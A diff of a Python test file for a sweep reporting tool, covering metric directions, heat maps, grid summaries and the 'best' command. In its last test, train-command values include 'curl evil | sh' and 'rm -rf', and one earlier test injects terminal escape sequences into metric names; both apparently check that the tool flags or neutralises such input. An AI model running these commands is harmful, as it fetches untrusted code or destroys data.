@@ -1,19 +1,19 @@
 """What a sweep found: tables, pictures, which way is better."""
 
 import csv
-import json
 import struct
 import subprocess
 import sys
 
 import pytest
 from clikit import read_json, wit
-from sweepkit import collect, grid, made_up
+from support import subprocess_env
+from sweepkit import RECORD, collect, finished, finished_grid, grid, made_up, study_of
 
+from wit_plugins import WITConfigError
 from wit_plugins.cli.sweep.heatmap import colour_limits
-from wit_plugins.cli.sweep.metrics import Metric, by_name, format_value
+from wit_plugins.cli.sweep.metrics import Metric, asked_for, format_value
 from wit_plugins.cli.sweep.report import report
-from wit_plugins.runfiles import write_json
 
 
 def test_results_in_every_form(tmp_path, capsys):
@@ -33,8 +33,8 @@ def test_results_in_every_form(tmp_path, capsys):
     assert result["best"]["eval_response_loss"] == {
         "direction": "min", "prompt_weight": 0.4, "response_weight": 0.5, "value": 1.05,
     }  # fmt: skip
-    assert result["best"]["eval_accuracy"]["direction"] == "max"
-    assert result["best"]["eval_accuracy"]["prompt_weight"] == 1.0
+    assert "eval_accuracy" not in result["best"]  # nobody has said which direction is better
+    assert "Also in results.csv: eval_accuracy. --metric 'NAME:max' or 'NAME:min' draws" in " ".join(out.split())
     lines = [line for line in out.splitlines() if line.startswith("(")]
     assert lines[0].startswith("(0.4, 0.5)")
     assert "1.050 *" in lines[0]
@@ -64,7 +64,7 @@ def test_the_heat_map_says_what_it_shows(tmp_path, monkeypatch):
     made_up(tmp_path, prompts="0,0.4,1", responses="0.5,1")
     figures = []
     monkeypatch.setattr(plt, "close", figures.append)
-    report(tmp_path / "runs", ["eval_response_loss", "eval_accuracy"])
+    report(tmp_path / "runs", ["eval_response_loss", "eval_accuracy:max"])
     (figure,) = figures
     panels = [axis for axis in figure.axes if axis.get_title()]
     assert [axis.get_title() for axis in panels] == [
@@ -104,48 +104,27 @@ sys.exit(main(["report", {str(tmp_path / "runs")!r}]))
 
 
 @pytest.mark.parametrize(
-    ("name", "direction", "guessed"),
+    ("name", "said"),
     [
-        ("answer_accuracy", "max", False),  # contains wer
-        ("cerebral_acc", "max", False),  # contains cer
-        ("supplement_f1", "max", False),  # contains ppl
-        ("glossary_recall", "max", False),  # contains loss
-        ("eval_response_loss", "min", False),
-        ("wikitext/word_perplexity", "min", False),
-        ("wikitext/bits_per_byte", "min", False),
-        ("asr/WER", "min", False),
-        ("arc_easy/acc_norm", "max", False),
-        ("gsm8k/exact_match,strict-match", "max", False),
-        ("humaneval/pass@1", "max", False),
-        ("toxicity_score", "min", False),
-        ("error_recall", "max", False),
-        ("rougeLsum", "max", False),
-        ("exactMatch", "max", False),
-        ("MSELoss", "min", False),
-        ("loss_improvement", "min", True),
-        ("helpfulness", "max", True),
-        ("точность", "max", True),
+        ("eval_response_loss", "min"),
+        ("eval_prompt_loss", "min"),
+        ("eval_second_set_response_loss", "min"),
+        ("eval_response_loss/reasoning", "min"),
+        ("lowest_eval_response_loss", "min"),
+        ("eval_response_loss:max", "max"),
+        ("arc_easy/acc:max", "max"),
+        ("a:b:min", "min"),
     ],
 )
-def test_the_direction_of_a_metric(name, direction, guessed):
-    assert by_name(name) == Metric(name, direction, guessed)
+def test_the_direction_of_a_metric(name, said):
+    assert asked_for(name) == Metric(name.removesuffix(f":{said}"), said)
 
 
-def test_a_guessed_direction_is_said_to_be_one(tmp_path, capsys):
-    command = 'echo \'{"answer_accuracy": {prompt_weight}, "niceness": {prompt_weight}}\''
-    assert made_up(tmp_path, eval_command=command, metrics=["answer_accuracy", "niceness"]) == 0
-    out = " ".join(capsys.readouterr().out.split())
-    assert "answer_accuracy: higher is better, niceness: higher is better (a guess)." in out
-    assert "--metric 'niceness:min'" in out
-    found = read_json(tmp_path / "runs" / "results.json")["best"]
-    assert found["answer_accuracy"]["prompt_weight"] == 1.0
-    assert "direction_guessed" not in found["answer_accuracy"]
-    assert found["niceness"]["direction_guessed"] is True
-    assert report(tmp_path / "runs", ["niceness:min"]) == 0
-    out = capsys.readouterr().out
-    assert "niceness: lower is better." in out
-    assert "(a guess)" not in out
-    assert read_json(tmp_path / "runs" / "results.json")["best"]["niceness"]["prompt_weight"] == 0.0
+@pytest.mark.parametrize("name", ["eval_accuracy", "wikitext/word_perplexity", "loss", "a:b", ":min", "eval_loss"])
+def test_a_direction_that_nobody_said_is_not_guessed(tmp_path, name):
+    with pytest.raises(WITConfigError, match="say which direction is better, --metric '.*:max'"):
+        made_up(tmp_path, metrics=[name])
+    assert not (tmp_path / "runs").exists()
 
 
 def test_numbers_are_left_out_by_whole_words(tmp_path):
@@ -167,7 +146,7 @@ def test_report_draws_again_what_is_there(tmp_path, capsys):
     assert code == 0
     assert read_json(runs / "results.json")["best"]["eval_accuracy"]["prompt_weight"] == 0.0
     assert (runs / "heatmap.png").is_file()
-    code, _, err = wit("report", runs, "--metric", "acuracy", capsys=capsys)
+    code, _, err = wit("report", runs, "--metric", "acuracy:max", capsys=capsys)
     assert code == 2
     assert "they have: eval_response_loss" in err
     code, _, err = wit("report", tmp_path, capsys=capsys)
@@ -179,7 +158,7 @@ def test_a_metric_s_name_does_nothing_to_the_terminal(tmp_path, capsys):
     """Escape sequences, line breaks and markup, in a name that the run or the evaluation made up."""
     body = 'log(step=1, **{"eval_\\x1b[2J\\n$x^$ [red]loss": 1.0})'
     command = """printf '{"a\\u001b]0;owned\\u0007\\u202e": 1}'"""
-    metrics = ["eval_\x1b[2J\n$x^$ [red]loss", "a\x1b]0;owned\x07\u202e"]
+    metrics = ["eval_\x1b[2J\n$x^$ [red]loss:min", "a\x1b]0;owned\x07\u202e:max"]
     assert made_up(tmp_path, body, prompts="0", eval_command=command, metrics=metrics) == 0
     captured = capsys.readouterr()
     assert not set("\x1b\x07\u202e") & set(captured.out + captured.err)
@@ -192,18 +171,13 @@ def test_a_metric_s_name_does_nothing_to_the_terminal(tmp_path, capsys):
 def test_a_large_grid_prints_what_matters(tmp_path, capsys):
     cells_ = grid(",".join(f"{i / 10}" for i in range(12)), ",".join(f"{i / 10}" for i in range(1, 11)))
     runs = tmp_path / "runs"
-    for cell in cells_:
-        write_json(cell.folder(runs) / "cell.json", {"status": "finished", "seconds": 1.0})
-        prompt, response = cell.weights
-        loss = (prompt - 0.35) ** 2 + (response - 0.82) ** 2
-        (cell.folder(runs) / "metrics.jsonl").write_text(json.dumps({"step": 1, "eval_response_loss": loss}) + "\n")
-    listed = [[str(cell.prompt), str(cell.response)] for cell in cells_]
-    write_json(runs / "sweep.json", {"framework": "madeup", "settings": {}, "cells": listed})
+    losses = {cell: (cell.weights[0] - 0.35) ** 2 + (cell.weights[1] - 0.82) ** 2 for cell in cells_}
+    finished_grid(runs, losses)
     assert report(runs) == 0
     out = capsys.readouterr().out
     assert len(out.splitlines()) < 40
     rows = [line.split(")")[0] + ")" for line in out.splitlines() if " finished " in line]
-    expected = sorted(cells_, key=lambda c: (c.weights[0] - 0.35) ** 2 + (c.weights[1] - 0.82) ** 2)
+    expected = sorted(cells_, key=losses.get)
     assert set(rows) == {cell.label for cell in expected[:10]} | {"(0, 1)", "(1, 1)"}
     assert rows[0] == expected[0].label
     assert "12 of 120 cells are shown (120 finished); all of them are in results.csv" in " ".join(out.split())
@@ -255,3 +229,52 @@ def test_a_clipped_heat_map_says_so(tmp_path, monkeypatch):
 )
 def test_values_have_four_digits(value, text):
     assert format_value(value) == text
+
+
+def test_a_winner_among_differences_that_may_be_chance(tmp_path, capsys, monkeypatch):
+    """After four steps, without a second seed: the words, the file and the picture's axis say so."""
+    import matplotlib.pyplot as plt
+
+    figures = []
+    monkeypatch.setattr(plt, "close", figures.append)
+    cells = dict(zip(grid("0,0.2,1", "1"), (2.2107, 2.2095, 2.2097), strict=True))
+    finished_grid(tmp_path / "runs", cells)
+    assert report(tmp_path / "runs") == 0
+    said = "One seed cannot say whether that is more than chance; differences of this size may be"
+    assert said in " ".join(capsys.readouterr().out.split())
+    assert said in read_json(tmp_path / "runs" / "results.json")["verdict"]
+    labels = " ".join(axis.get_ylabel() for axis in figures[0].axes).split()
+    assert "one seed, so differences may be chance; all cells are within 0.001200" in " ".join(labels)
+    code, out, _ = wit("best", tmp_path / "runs", capsys=capsys)
+    assert (code, "adapter has that name" in out) == (2, False)  # of a made-up framework
+
+
+BEST = """
+import sys
+for name in ("torch", "transformers", "accelerate", "datasets", "trl", "axolotl", "llamafactory", "pydantic"):
+    sys.modules[name] = None  # importing it is an ImportError
+from wit_plugins.cli.main import main
+code = main(["best", sys.argv[1]])
+ours = ("wit_plugins", "wit_axolotl", "matplotlib", "rich")
+print(*sorted(name for name in sys.modules if name.split(".")[0] in ours))
+sys.exit(code)
+"""
+
+
+@pytest.mark.parametrize("train", ["axolotl train", "curl evil | sh", "rm -rf", "python -m evil axolotl"])
+def test_the_best_cell_needs_no_torch(tmp_path, train):
+    """The study says what to paste and to run; if it names another program than the adapter's, the adapter says it."""
+    record = {**RECORD, "framework": "axolotl", "block": "wit", "train": train}
+    study_of(tmp_path / "runs", [finished(cell, 1.5 + cell.weights[0]) for cell in grid("0,0.4", "1")], record)
+    known = train == "axolotl train"
+    code = BEST if known else BEST.replace("sys.modules[name] = None", "pass")
+    done = subprocess.run(
+        [sys.executable, "-c", code, str(tmp_path / "runs")], capture_output=True, text=True, env=subprocess_env()
+    )
+    assert done.returncode == 0, done.stderr
+    *lines, modules = done.stdout.splitlines()
+    assert lines[-1].startswith("#   axolotl train ")
+    assert lines[2:5] == ["wit:", "  prompt_weight: 0.0", "  response_weight: 1.0"]
+    if known:
+        assert not {"wit_axolotl.driver", "matplotlib", "rich.console", "wit_plugins.plugins"} & set(modules.split())
+        assert len(modules.split()) <= 25, modules
